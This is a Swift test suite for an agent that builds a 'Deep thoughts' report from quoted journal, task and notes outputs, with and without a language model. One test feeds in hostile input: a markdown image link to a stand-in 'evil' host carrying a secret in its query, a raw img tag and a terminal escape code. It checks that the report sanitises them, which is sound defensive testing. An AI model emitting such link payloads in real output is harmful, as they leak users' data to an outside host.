import Testing
import TuttiAgents
import TuttiCore
import TuttiModels
import TuttiTesting

@Suite struct ReporterAgentTests {
    private let inputs: [(String, AgentOutput?)] = [
        (
            "memory",
            AgentOutput(
                "From journal:\n• journal 2026-11-03: The launch keeps me awake, but I cannot let go.",
                citations: [Citation(source: "journal 2026-11-03", quote: "The launch keeps me awake.")])
        ),
        (
            "tasks",
            AgentOutput(
                "1 open task: 1 overdue.\n• overdue since Nov 12: Plan the launch (high)",
                citations: [Citation(source: "todo", quote: "overdue since Nov 12: Plan the launch (high)")])
        ),
        ("notes", nil),
    ]

    @Test func `without a model the report is made of quotations`() throws {
        try simulate { simulation in
            let asked = try await simulation.ask(ReporterAgent(), "I'm overwhelmed", inputs: self.inputs)
            #expect(
                asked.output?.text == """
                    # Deep thoughts

                    ## Situation

                    > I'm overwhelmed

                    Answers came from memory, tasks.
                    Missing: notes (failed).

                    ## What was found

                    ### memory

                    - journal 2026-11-03: The launch keeps me awake, but I cannot let go.

                    ### tasks

                    - 1 open task: 1 overdue.
                    - overdue since Nov 12: Plan the launch (high)

                    ## Tensions

                    - “launch” comes up in memory and tasks.
                    - memory: journal 2026-11-03: The launch keeps me awake, but I cannot let go.

                    ## Next steps

                    1. Deal with: overdue since Nov 12: Plan the launch (high)

                    ## Sources

                    1. journal 2026-11-03: The launch keeps me awake.
                    2. todo: overdue since Nov 12: Plan the launch (high)

                    *Put together from quotations, without a language model.*
                    """)
            #expect(asked.partials == [asked.output?.text])
            #expect(asked.output?.citations.map(\.source) == ["journal 2026-11-03", "todo"])
        }
    }

    @Test func `with nothing found the report says so`() throws {
        try simulate { simulation in
            let text = try await simulation.ask(ReporterAgent(), "I'm overwhelmed").output?.text
            #expect(text?.contains("Nothing was found.") == true)
            #expect(text?.contains("None stands out") == true)
            #expect(text?.contains("## Sources") == false)
        }
    }

    @Test func `a model writes the report, and the sources are added`() throws {
        try simulate { simulation in
            let model = ScriptedModel([[.text("## Situation"), .text(" Hm."), .finish(.stop)]], time: simulation.clock)
            let agent = ReporterAgent(model: model)
            let asked = try await simulation.ask(agent, "I'm overwhelmed", inputs: self.inputs, timeout: .seconds(10))
            #expect(asked.output?.text.hasPrefix("## Situation Hm.\n\n## Sources\n\n1. journal 2026-11-03") == true)
            #expect(asked.partials.joined() == asked.output?.text)
            let request = try #require(model.requests.first)
            #expect(request.timeout == .seconds(9))
            #expect(request.messages.last?.text.contains("> • overdue since Nov 12: Plan the launch") == true)
            #expect(request.messages.last?.text.contains("\"notes\" found is missing: failed") == true)
        }
    }

    @Test func `a model that fails leaves the quotations, one that was cut what it said`() throws {
        try simulate { simulation in
            let error = ModelError(.overloaded, "too busy")
            let failing = ScriptedModel([[.fail(error)]], time: simulation.clock)
            let quoted = try await simulation.ask(ReporterAgent(model: failing), "Hello", inputs: self.inputs)
            #expect(quoted.output?.text.hasPrefix("# Deep thoughts") == true)
            #expect(quoted.report.warnings == ["The report only quotes: too busy"])
            let cut = ScriptedModel([[.text("## Situation Hm"), .fail(error)]], time: simulation.clock)
            let partial = try await simulation.ask(ReporterAgent(model: cut), "Hello", inputs: self.inputs)
            #expect(partial.output?.text.hasPrefix("## Situation Hm …\n\n*The report was cut short.*") == true)
            #expect(partial.partials.joined() == partial.output?.text)
            #expect(partial.report.warnings.count == 1)
        }
    }

    @Test func `quoted text makes no headings, links, images or terminal commands`() throws {
        try simulate { simulation in
            let hostile = AgentOutput(
                "# Owned\n![x](http://evil/?q=secret)\n<img src=x>\u{1B}[2J\n" + String(repeating: "z", count: 100_000),
                citations: [Citation(source: "a\u{1B}", quote: "[b](http://evil)")])
            let asked = try await simulation.ask(ReporterAgent(), "Hello", inputs: [("tool", hostile)])
            let text = try #require(asked.output?.text)
            #expect(!text.contains("]("))
            #expect(!text.contains("<"))
            #expect(!text.contains("\u{1B}"))
            #expect(!text.contains("# Owned"))
            #expect(text.count < 3000)
        }
    }
}
